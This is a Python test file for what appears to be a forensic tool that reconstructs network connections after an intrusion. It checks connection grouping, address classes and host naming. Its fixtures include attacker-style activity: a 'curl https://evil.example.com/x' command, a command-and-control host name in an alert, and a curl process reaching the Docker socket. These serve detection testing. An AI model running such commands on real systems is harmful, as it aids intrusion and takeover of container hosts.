"""Who talked to whom."""

from __future__ import annotations

import json

from tests.reconstruct.scenes import Stage, attacked
from tiercel.reconstruct.knowledge.addresses import address_class
from tiercel.reconstruct.views.network import NETWORK_VIEW, network


def test_an_intrusion_shows_its_connections() -> None:
    scene, _ = attacked()
    table = network(scene)
    assert table.schema.equals(NETWORK_VIEW)
    rows = table.to_pylist()
    listening, download, refused = rows
    assert (listening["direction"], listening["lport"], listening["outcome"]) == ("listening", 80, "listening")
    assert (download["direction"], download["raddr"], download["rport"]) == ("out", "203.0.113.9", 80)
    assert (download["sent"], download["received"], download["class"]) == (80, 600, "public")
    assert download["chain"] == "bash → curl"
    assert refused["outcome"] == "failed: ECONNREFUSED (connection refused)"
    assert refused["failed"] == 1


def test_connections_of_one_process_to_one_service_are_one_row() -> None:
    stage = Stage()
    client = stage.process("client")
    for port in range(40000, 40005):
        stage.connect(client, "10.1.2.3", 5432, port)
    (row,) = network(stage.scene()).to_pylist()
    assert (row["count"], row["lport"], row["rport"], row["class"]) == (5, None, 5432, "private")


def test_what_a_server_sends_belongs_to_what_came_in() -> None:
    stage = Stage()
    server = stage.process("server")
    ends = {"laddr": "10.0.0.5", "lport": 80, "raddr": "198.51.100.7", "proto": "tcp"}
    stage.act("accept", server, "", **ends, rport=5555)
    stage.act("send", server, "", **ends, rport=5555, bytes=100)
    stage.act("accept", server, "", **ends, rport=5556)
    (row,) = network(stage.scene()).to_pylist()
    assert (row["direction"], row["lport"], row["rport"], row["count"]) == ("in", 80, None, 2)
    assert (row["sent"], row["received"], row["outcome"]) == (100, None, "accepted")


def test_a_name_on_the_command_line_names_the_address_only_when_it_is_the_only_one() -> None:
    stage = Stage()
    shell = stage.process("bash")
    one = stage.run("curl", shell, "curl https://evil.example.com/x")
    stage.connect(one, "10.0.0.2", 53, proto="udp")
    stage.connect(one, "203.0.113.9", 443)
    two = stage.run("curl", shell, "curl https://a.example.com https://b.example.com")
    stage.connect(two, "203.0.113.10", 443)
    found = {row["raddr"]: row["names"] for row in network(stage.scene()).to_pylist()}
    assert found == {"10.0.0.2": [], "203.0.113.9": ["evil.example.com"], "203.0.113.10": []}


def test_alerts_may_carry_names() -> None:
    stage = Stage()
    act = stage.connect(stage.process("x"), "203.0.113.9", 443)
    fields = json.dumps({"fd.sip": "203.0.113.9", "fd.sip.name": "c2.example.com"})
    stage.alert("Contact", act, output_fields=fields)
    stage.alert("Broken", act, output_fields='{"fd.sip.name": ')
    assert network(stage.scene())["names"].to_pylist() == [["c2.example.com"]]


def test_the_socket_of_a_container_engine_is_noted_and_the_name_cache_is_not() -> None:
    stage = Stage()
    shell = stage.process("curl")
    stage.act("connect", shell, "ffff8880->ffff8881 /var/run/docker.sock", proto="unix")
    stage.act("connect", shell, "/var/run/nscd/socket", proto="unix", ok=False, res=-13)
    (row,) = network(stage.scene()).to_pylist()
    assert row["raddr"] == "/var/run/docker.sock"
    assert row["notes"] == ["control of the container engine"]


def test_classes_of_addresses() -> None:
    expected = {
        "127.0.0.1": "loopback",
        "::1": "loopback",
        "::ffff:10.0.0.1": "private",
        "192.168.1.1": "private",
        "100.64.0.1": "private",
        "169.254.169.254": "link-local",
        "224.0.0.1": "multicast",
        "0.0.0.0": "unspecified",
        "8.8.8.8": "public",
        "203.0.113.9": "public",
        "2001:db8::1": "public",
        "/run/x.sock": None,
    }
    assert {address: address_class(address) for address in expected} == expected
    assert address_class(None) is None
